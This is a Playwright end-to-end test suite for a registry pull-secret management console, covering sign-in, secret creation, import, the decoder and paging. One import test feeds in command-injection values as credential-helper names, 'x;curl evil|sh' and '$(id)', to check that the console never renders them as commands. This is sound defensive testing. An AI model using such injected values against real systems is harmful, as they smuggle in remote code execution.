// The real console in headless Chromium against the real worker: every
// page a user needs, downloads checked with tar, the decoder watched for
// network traffic, the list's requests watched for paging. Screenshots
// (1280 px wide) land in target/e2e/.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdir, mkdtemp, readFile, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { launchBrowser } from './browser.mjs';
import { ARTIFACTS, client, dockerconfig, startWorker, TOKENS } from './harness.mjs';

const VIEWPORT = { width: 1280, height: 800 };
const SECRETS = '/v2/admin/dockerRegistrySecrets';
const HUB_PASSWORD = 'hub-Pa55:word';
const PRIVATE_PASSWORD = 'private-pässword';

let w, browser, page, tmp;
before(async () => {
  // The paging test stores more secrets than the default quota of 50.
  w = await startWorker({ vars: { REGCRED_MAX_SECRETS: '500' } });
  // Playwright gives every launch a new empty profile directory.
  browser = await launchBrowser();
  await mkdir(ARTIFACTS, { recursive: true });
  tmp = await mkdtemp(path.join(os.tmpdir(), 'regcred-console-'));
  page = await (await browser.newContext({ acceptDownloads: true, viewport: VIEWPORT })).newPage();
  page.setDefaultTimeout(20_000);
});
after(async () => {
  await browser?.close();
  await w?.stop();
  if (tmp) await rm(tmp, { recursive: true, force: true });
});

const shot = (name) => page.screenshot({ path: path.join(ARTIFACTS, `${name}.png`), fullPage: true });
const text = (sel) => page.locator(sel).first().innerText();
async function waitText(sel, re) {
  await page.waitForFunction(([s, src]) => {
    const el = document.querySelector(s);
    return el && new RegExp(src).test(el.textContent);
  }, [sel, re.source]);
}

test('the landing page takes the token itself: one step to the list', async () => {
  const ctx = await browser.newContext({ viewport: VIEWPORT });
  const p = await ctx.newPage();
  p.setDefaultTimeout(20_000);
  await p.goto(`${w.url}/`);
  await p.locator('#signin-needed #token').waitFor();
  assert.match(await p.locator('#signin-needed').innerText(), /Sign in to manage secrets/);
  await p.screenshot({ path: path.join(ARTIFACTS, 'landing.png'), fullPage: true });
  await p.fill('#token', TOKENS.viewer);
  await p.keyboard.press('Enter');
  await p.locator('#empty-state').waitFor();
  assert.equal(new URL(p.url()).pathname, '/', 'signing in keeps the user where they landed');
  assert.match(await p.locator('#whoami').innerText(), /viewer/);
  await ctx.close();
});

test('sign in: a wrong token says so, a right one shows the role', async () => {
  await page.goto(`${w.url}/signin`);
  await page.fill('#token', 'rc_this_token_is_wrong_000000');
  await page.click('button[type=submit]');
  await waitText('#token-error', /not valid/);
  await shot('signin');
  // Keyboard only: Tab to the field, type, Enter.
  await page.goto(`${w.url}/signin`);
  for (let i = 0; i < 15; i++) {
    await page.keyboard.press('Tab');
    if (await page.evaluate(() => document.activeElement?.id) === 'token') break;
  }
  assert.equal(await page.evaluate(() => document.activeElement?.id), 'token', 'Tab reaches the token field');
  await page.keyboard.type(TOKENS.editor);
  await page.keyboard.press('Enter');
  await waitText('#whoami', /editor/);
  const storage = await page.evaluate(() => ({ local: localStorage.length, session: Object.keys(sessionStorage).sort() }));
  assert.equal(storage.local, 0, 'nothing may go to localStorage');
  // The token, and who it is (label, role: no credential), for the next load.
  assert.deepEqual(storage.session, ['regcred.session', 'regcred.token']);
  const known = JSON.parse(await page.evaluate(() => sessionStorage.getItem('regcred.session')));
  assert.deepEqual(known, { label: 'test-editor', role: 'editor', via: 'environmentToken' });
});

test('an empty list explains what a pull secret is', async () => {
  await page.goto(`${w.url}/`);
  await page.locator('#empty-state').waitFor();
  assert.match(await text('#empty-state'), /pull secret holds a registry address/);
  await shot('list-empty');
});

test('create a Docker Hub secret, with live validation and a masked preview', async () => {
  await page.goto(`${w.url}/secrets/new`);
  await page.fill('#name', 'Hub_Team');
  await waitText('#name-error', /position 1/);
  await page.fill('#name', 'hub-team');
  await waitText('#name-error', /^$/);
  await page.fill('#username', 'hubuser');
  await page.fill('#password', HUB_PASSWORD);
  assert.equal(await page.getAttribute('#password', 'autocomplete'), 'new-password');
  assert.equal(await page.getAttribute('#password', 'type'), 'password');
  const soon = new Date(Date.now() + 5 * 86400e3).toISOString().slice(0, 10);
  await page.fill('#expires', soon);
  await waitText('#preview', /index\.docker\.io/);
  const preview = await text('#preview');
  assert.ok(preview.includes('hubuser') && !preview.includes(HUB_PASSWORD), preview);
  await shot('create');
  await page.click('button[type=submit]');
  await waitText('#flash', /Secret "hub-team" created/);
  await page.locator('table.secrets >> text=hub-team').waitFor();
  await waitText('table.secrets', /expires within 14 days/);
});

test('API errors appear next to the field they concern', async () => {
  await page.goto(`${w.url}/secrets/new`);
  await page.fill('#name', 'hub-team');
  await page.fill('#username', 'someone');
  await page.fill('#password', 'x');
  await page.click('button[type=submit]');
  await waitText('#name-error', /already exists/);
  await page.check('#kind-raw');
  await page.fill('#raw', '{"auths":{"r.example.com":{}}}');
  await waitText('#raw-error', /no credentials/);
});

test('create a private registry secret and download its docker.tar.gz', async () => {
  await page.goto(`${w.url}/secrets/new`);
  await page.fill('#name', 'private-ci');
  await page.check('#kind-private');
  await page.fill('#server', 'my registry');
  await page.fill('#username', 'ci');
  await page.fill('#password', PRIVATE_PASSWORD);
  await page.click('button[type=submit]');
  await waitText('#server-error', /space/);
  await page.fill('#server', 'registry.example.com:5000');
  await page.click('button[type=submit]');
  await waitText('#flash', /"private-ci" created/);
  await page.locator('table.secrets >> text=registry.example.com:5000').waitFor();
  await shot('list');
  assert.equal(await page.locator('.pager button').nth(1).innerText(), 'Next');
  const [dl] = await Promise.all([page.waitForEvent('download'), page.click('#dl-targz')]);
  assert.equal(dl.suggestedFilename(), 'docker.tar.gz');
  const file = path.join(tmp, 'docker.tar.gz');
  await dl.saveAs(file);
  const listing = execFileSync('tar', ['-tvzf', file]).toString();
  assert.match(listing, /-rw------- .*\.docker\/config\.json/);
  execFileSync('tar', ['-xzf', file, '-C', tmp]);
  const config = JSON.parse(await readFile(path.join(tmp, '.docker', 'config.json'), 'utf8'));
  assert.equal(config.auths['registry.example.com:5000'].password, PRIVATE_PASSWORD);
});

test('edit gives a secret new credentials; its page shows snippets without them', async () => {
  const viewer = client(w.url, 'viewer');
  const stored = (await viewer('GET', `${SECRETS}/hub-team`)).json.expiresAt;
  assert.ok(stored, 'hub-team was created with an expiry');
  await page.goto(`${w.url}/secrets/hub-team/edit`);
  await page.locator('#name').waitFor();
  assert.equal(await page.getAttribute('#name', 'readonly'), '');
  assert.equal(await page.inputValue('#expires'), stored.slice(0, 10), 'the stored expiry is pre-filled');
  await page.fill('#username', 'hubuser');
  await page.fill('#password', 'rotated-password-1');
  await shot('edit');
  await page.click('button[type=submit]');
  await waitText('#flash', /"hub-team" updated/);
  const pulled = await client(w.url, 'puller')('GET', '/v2/admin/dockerRegistrySecrets/hub-team/dockerconfigjson');
  assert.equal(pulled.json.auths['https://index.docker.io/v1/'].password, 'rotated-password-1');
  assert.equal((await viewer('GET', `${SECRETS}/hub-team`)).json.expiresAt, stored, 'an untouched expiry is kept');

  await page.goto(`${w.url}/secrets/hub-team`);
  await waitText('#snippet-k8s', /name: hub-team/);
  assert.match(await text('#snippet-sap'), /imagePullSecrets/);
  assert.match(await text('#snippet-dcos-app'), /"source": "\/hub-team"/);
  assert.match(await text('#snippet-dcos-pod'), /pullConfig/);
  const html = await page.content();
  assert.ok(!html.includes('rotated-password-1') && !html.includes(HUB_PASSWORD));
  await shot('detail');
});

test('edit can clear an expiry: "No expiry" sends expiresAt null', async () => {
  await page.goto(`${w.url}/secrets/hub-team/edit`);
  await page.locator('#expires').waitFor();
  assert.notEqual(await page.inputValue('#expires'), '');
  await page.click('#no-expiry');
  assert.equal(await page.inputValue('#expires'), '');
  await page.fill('#username', 'hubuser');
  await page.fill('#password', 'rotated-password-2');
  await page.click('button[type=submit]');
  await waitText('#flash', /"hub-team" updated/);
  const got = await client(w.url, 'viewer')('GET', `${SECRETS}/hub-team`);
  assert.equal(got.json.expiresAt, undefined, JSON.stringify(got.json));
  await page.goto(`${w.url}/secrets/hub-team`);
  await waitText('#expires-at', /^—$/);
  // Who logs in is shown; the password never is.
  await waitText('#usernames', /^hubuser$/);
  assert.doesNotMatch(await page.content(), /rotated-password-2/);
  await page.goto(`${w.url}/secrets/hub-team/edit`);
  await page.locator('#expires').waitFor();
  assert.equal(await page.inputValue('#expires'), '');
  assert.match(await text('#expires-hint'), /no expiry/);
});

test('delete asks for a confirmation that names the secret', async () => {
  await page.goto(`${w.url}/`);
  await page.click('button[aria-label="Delete private-ci"]');
  await waitText('.confirm', /Delete "private-ci"\?/);
  await page.click('.confirm button.danger');
  await waitText('#notice', /Deleted "private-ci"/);
  await page.waitForFunction(() => !document.querySelector('table.secrets')?.textContent.includes('private-ci'));
});

test('the activity page shows who did what', async () => {
  await page.goto(`${w.url}/activity`);
  await waitText('#activity', /delete/);
  const t = await text('#activity');
  assert.match(t, /test-editor/);
  assert.match(t, /private-ci/);
  assert.ok(!t.includes(HUB_PASSWORD) && !t.includes(TOKENS.editor));
  await shot('activity');
});

test('import a config.json: two auth entries and one credential helper', async () => {
  const b64 = (s) => Buffer.from(s).toString('base64');
  const config = JSON.stringify({
    auths: {
      'ghcr.io': { auth: b64('octo:ghp_importtoken') },
      'quay.io': { auth: b64('robot+ci:quaytoken') },
      'https://index.docker.io/v1/': {},
    },
    credsStore: 'desktop',
  }, null, 2);
  await page.goto(`${w.url}/import`);
  await page.fill('#config-text', config);
  await page.locator('#import-rows tbody tr').nth(2).waitFor();
  assert.equal(await page.locator('#import-rows tbody tr').count(), 3);
  const rows = await text('#import-rows');
  assert.match(rows, /echo https:\/\/index\.docker\.io\/v1\/ \| docker-credential-desktop get/);
  assert.doesNotMatch(rows, /ghp_importtoken/);
  await page.click('#import-run');
  await waitText('#import-count', /^2 of 2$/);
  await shot('import');
  await waitText('#import-rows', /created "ghcr-io"/);
  assert.match(await text('#import-rows'), /created "quay-io"/);
  await shot('import');
  await page.goto(`${w.url}/import`);
  await page.fill('#config-text', config);
  await page.locator('#import-rows tbody tr').nth(2).waitFor();
  await page.click('#import-run');
  await waitText('#import-rows', /already exists; not overwritten/);
});

test('import and decoder: a helper name that is a shell command never becomes a command to copy', async () => {
  const evil = 'x;curl evil|sh';
  const config = JSON.stringify({
    auths: { 'ghcr.io': {}, 'quay.io': {} },
    credsStore: evil,
    credHelpers: { 'quay.io': 'pass', 'gcr.io': '$(id)' },
  });
  const commands = () => page.locator('code').allInnerTexts();
  await page.goto(`${w.url}/import`);
  await page.fill('#config-text', config);
  await page.locator('#import-rows tbody tr').nth(2).waitFor();
  const row = (i) => page.locator('#import-rows tbody tr').nth(i).innerText();
  assert.match(await row(0), /ghcr\.io[\s\S]*invalid: .*not a program name/);
  assert.match(await row(1), /quay\.io[\s\S]*helper "pass"/);
  assert.match(await row(2), /gcr\.io[\s\S]*invalid: .*not a program name/);
  // The one valid helper still gets its command; no other command is shown.
  const shown = (await commands()).filter((c) => c.includes('docker-credential-'));
  assert.deepEqual(shown, ['echo quay.io | docker-credential-pass get']);
  assert.equal(await page.locator('#import-rows input[type=checkbox]:not([disabled])').count(), 0);
  await page.goto(`${w.url}/decode`);
  await page.fill('#decode-input', config);
  await page.waitForFunction(() => document.querySelectorAll('#decoded-rows tbody tr').length === 3);
  assert.match(await page.locator('#decoded-rows').innerText(), /not a program name/);
  const decoded = (await commands()).filter((c) => c.includes('docker-credential-'));
  assert.deepEqual(decoded, ['echo quay.io | docker-credential-pass get']);
  for (const c of [...shown, ...decoded]) assert.ok(!c.includes('curl') && !c.includes('$('), c);
});

test('import: secret names are readable and editable in full at 1280 px', async () => {
  const b64 = (s) => Buffer.from(s).toString('base64');
  const long = 'registry.gitlab.platform-team.example.com:5050';
  const config = JSON.stringify({
    auths: { [long]: { auth: b64('ci:token-1') }, 'ghcr.io': { auth: b64('octo:token-2') } },
    credHelpers: { '123456789012.dkr.ecr.eu-central-1.amazonaws.com': 'ecr-login' },
  });
  await page.goto(`${w.url}/import`);
  await page.fill('#config-text', config);
  const input = page.locator(`input[aria-label="Secret name for ${long}"]`);
  await input.waitFor();
  const suggested = await input.inputValue();
  assert.ok(suggested.length > 40, suggested);
  const fits = () => input.evaluate((el) => ({ fits: el.scrollWidth <= el.clientWidth, width: el.clientWidth }));
  let f = await fits();
  assert.ok(f.fits && f.width >= 300, `the name field is ${f.width}px and ${f.fits ? 'fits' : 'cuts'} "${suggested}"`);
  const edited = 'platform-team-gitlab-registry-for-ci-pipelines';
  await input.fill(edited);
  await input.press('Tab');
  f = await fits();
  assert.ok(f.fits, `the edited name "${edited}" is cut at ${f.width}px`);
  await page.uncheck('input[aria-label="Import ghcr.io"]');
  await shot('import-names');
  await page.click('#import-run');
  await waitText('#import-rows', new RegExp(`created "${edited}"`));
  assert.equal((await client(w.url, 'viewer')('GET', `${SECRETS}/${edited}`)).status, 200);
});

test('every page has its own title and the header marks where you are', async () => {
  const pages = [
    ['/', 'Pull secrets', 'Secrets'],
    ['/secrets/new', 'Create a pull secret', 'Create'],
    ['/import', 'Import', 'Import'],
    ['/decode', 'Decoder', 'Decoder'],
    ['/activity', 'Activity', 'Activity'],
    ['/secrets/hub-team', 'hub-team', 'Secrets'],
    ['/secrets/hub-team/edit', 'Edit hub-team', 'Secrets'],
    ['/signin', 'Sign in', null],
    ['/no/such/page', 'Not found', null],
  ];
  const marked = () => page.evaluate(() => {
    const links = [...document.querySelectorAll('header nav a')];
    const style = (a) => { const c = getComputedStyle(a); return `${c.borderBottomWidth} ${c.borderBottomColor} ${c.fontWeight}`; };
    const current = links.filter((a) => a.getAttribute('aria-current') === 'page');
    return {
      current: current.map((a) => a.textContent),
      marker: current.map(style)[0],
      others: [...new Set(links.filter((a) => !current.includes(a)).map(style))],
    };
  });
  for (const [url, title, link] of pages) {
    await page.goto(`${w.url}${url}`);
    // A wrong title is reported by the assertion below, with the page's URL.
    await page.waitForFunction((t) => document.title === `${t} · regcred`, title, { timeout: 5000 }).catch(() => {});
    assert.equal(await page.title(), `${title} · regcred`, url);
    // Links a role may see appear once the session is read back.
    if (link) {
      await page.waitForFunction((l) => [...document.querySelectorAll('header nav a')]
        .some((a) => a.getAttribute('aria-current') === 'page' && a.textContent === l), link, { timeout: 5000 }).catch(() => {});
    }
    const m = await marked();
    assert.deepEqual(m.current, link ? [link] : [], `${url}: the current link`);
    if (link) {
      assert.ok(!m.others.includes(m.marker), `${url}: "${link}" looks like the other links (${m.marker})`);
      assert.notEqual(m.marker.split(' ')[0], '0px', `${url}: no visible marker`);
    }
  }
  // In-app navigation updates both without a reload.
  await page.goto(`${w.url}/secrets/new`);
  await page.evaluate(() => { window.__samePage = true; });
  await page.click('header nav >> text=Import');
  await page.waitForFunction(() => document.title === 'Import · regcred');
  assert.deepEqual((await marked()).current, ['Import']);
  assert.equal(await page.evaluate(() => window.__samePage), true, 'routed, not reloaded');
  await shot('nav-import');
  // The decoder is its own entry: its links load the console, marked alike.
  await page.goto(`${w.url}/decode`);
  await page.click('header nav >> text=Import');
  await page.waitForFunction(() => document.title === 'Import · regcred');
  assert.deepEqual((await marked()).current, ['Import']);
  await page.click('header nav >> text=Decoder');
  await page.waitForFunction(() => document.title === 'Decoder · regcred');
  // The decoder's entry loads anew: its header may mark the link a moment
  // after the title is set.
  await page.waitForFunction(() => [...document.querySelectorAll('header nav a')]
    .some((a) => a.getAttribute('aria-current') === 'page'));
  assert.deepEqual((await marked()).current, ['Decoder']);
});

test('the decoder loads its own small entry, and asks nothing even when signed in', async () => {
  const ctx = await browser.newContext({ viewport: VIEWPORT });
  await ctx.addInitScript(([t]) => {
    sessionStorage.setItem('regcred.token', t);
    sessionStorage.setItem('regcred.session', JSON.stringify({ label: 'test-editor', role: 'editor', via: 'environmentToken' }));
  }, [TOKENS.editor]);
  const p = await ctx.newPage();
  const urls = [];
  p.on('request', (r) => urls.push(new URL(r.url()).pathname));
  await p.goto(`${w.url}/decode`);
  await p.locator('#decode-input').waitFor();
  await p.waitForFunction(() => document.querySelector('#whoami')?.textContent.includes('test-editor'));
  // Links the role may see are there; the page it is on is marked.
  const links = await p.evaluate(() => [...document.querySelectorAll('header nav a')].map((a) => a.textContent));
  assert.deepEqual(links, ['Secrets', 'Create', 'Import', 'Decoder', 'Activity']);
  const wasm = urls.filter((u) => u.endsWith('.wasm'));
  assert.equal(wasm.length, 1, urls.join(' '));
  assert.match(wasm[0], /^\/decoder-[0-9a-f]+_bg\.wasm$/, 'the decoder entry, not the console');
  assert.deepEqual(urls.filter((u) => u.startsWith('/v2/')), [], 'the decoder must not send anything');
  await p.click('#signout');
  await p.locator('header a[href="/signin"]').waitFor();
  assert.equal(await p.evaluate(() => sessionStorage.length), 0);
  await ctx.close();
});

test('a store bigger than one API page is paged with $top/$skip', async () => {
  const editor = client(w.url, 'editor');
  const names = Array.from({ length: 130 }, (_, i) => `page-${String(i).padStart(3, '0')}`);
  for (let i = 0; i < names.length; i += 10) {
    const batch = names.slice(i, i + 10).map((name) => editor('POST', SECRETS, {
      name, data: { '.dockerconfigjson': dockerconfig('ghcr.io', 'u', 'p') },
    }));
    for (const r of await Promise.all(batch)) assert.equal(r.status, 202, r.text);
  }
  const total = (await editor('GET', `${SECRETS}?$top=0&$count=true`)).json.count;
  assert.ok(total >= 130, String(total));
  const lists = [];
  const watch = (r) => {
    const u = new URL(r.url());
    if (u.pathname === SECRETS && r.method() === 'GET') lists.push(Object.fromEntries(u.searchParams));
  };
  page.on('request', watch);
  try {
    await page.goto(`${w.url}/`);
    await page.locator('table.secrets tbody tr').first().waitFor();
    const windowed = () => {
      for (const q of lists) {
        assert.ok(q.$top !== undefined && Number(q.$top) <= 100, `every list request is one window: ${JSON.stringify(q)}`);
        assert.equal(q.$count, 'true', JSON.stringify(q));
      }
    };
    windowed();
    const pages = Math.ceil(total / 20);
    await waitText('#page-of', new RegExp(`^Page 1 of ${pages}$`));
    await shot('list-paged');
    const want = async (skip) => (await editor('GET', `${SECRETS}?$top=20&$skip=${skip}`)).json.resources.map((r) => r.name);
    const shownNames = () => page.locator('table.secrets tbody tr td:first-child').allInnerTexts();
    assert.deepEqual(await shownNames(), await want(0));
    await page.click('.pager >> text=Next');
    await waitText('#page-of', new RegExp(`^Page 2 of ${pages}$`));
    await waitText('#list-summary', new RegExp(`^21–40 of ${total} shown$`));
    assert.deepEqual(await shownNames(), await want(20));
    assert.ok(lists.length >= 2, JSON.stringify(lists));
    windowed();
    assert.deepEqual(lists.at(-1), { $top: '20', $skip: '20', $count: 'true' });
  } finally {
    page.off('request', watch);
    for (const name of names) await editor('DELETE', `${SECRETS}/${name}`);
  }
});

test('sign out clears the session', async () => {
  await page.goto(`${w.url}/`);
  await page.click('#signout');
  await page.locator('text=Sign in to manage secrets').waitFor();
  assert.equal(await page.evaluate(() => sessionStorage.length), 0);
});

test('the decoder works signed out and sends nothing', async () => {
  const ctx = await browser.newContext();
  const p = await ctx.newPage();
  await p.goto(`${w.url}/decode`);
  await p.locator('#decode-input').waitFor();
  const requests = [];
  p.on('request', (r) => requests.push(r.url()));
  await p.fill('#decode-input', ` ${Buffer.from('deploy:pa:ss').toString('base64').replace(/=+$/, '')}\r\n`);
  await p.waitForFunction(() => document.querySelector('#decoded-user')?.textContent === 'deploy');
  assert.match(await p.locator('#decoded-password').innerText(), /•/);
  await p.click('#decode-result button');
  await p.waitForFunction(() => document.querySelector('#decoded-password')?.textContent === 'pa:ss');
  await p.screenshot({ path: path.join(ARTIFACTS, 'decoder.png'), fullPage: true });
  await p.fill('#decode-input', Buffer.from('no colon here').toString('base64'));
  await p.waitForFunction(() => /without ':'/.test(document.querySelector('#decode-error')?.textContent ?? ''));
  await p.fill('#decode-input', 'not*base64');
  await p.waitForFunction(() => /not valid base64/.test(document.querySelector('#decode-error')?.textContent ?? ''));
  await p.fill('#decode-input', JSON.stringify({ auths: { 'a.io': { auth: Buffer.from('u:p').toString('base64') }, 'b.io': {} }, credsStore: 'pass' }));
  await p.waitForFunction(() => document.querySelectorAll('#decoded-rows tbody tr').length === 2);
  assert.match(await p.locator('#decoded-rows').innerText(), /docker-credential-pass get/);
  assert.deepEqual(requests, [], 'the decoder must not send anything');
  await ctx.close();
});
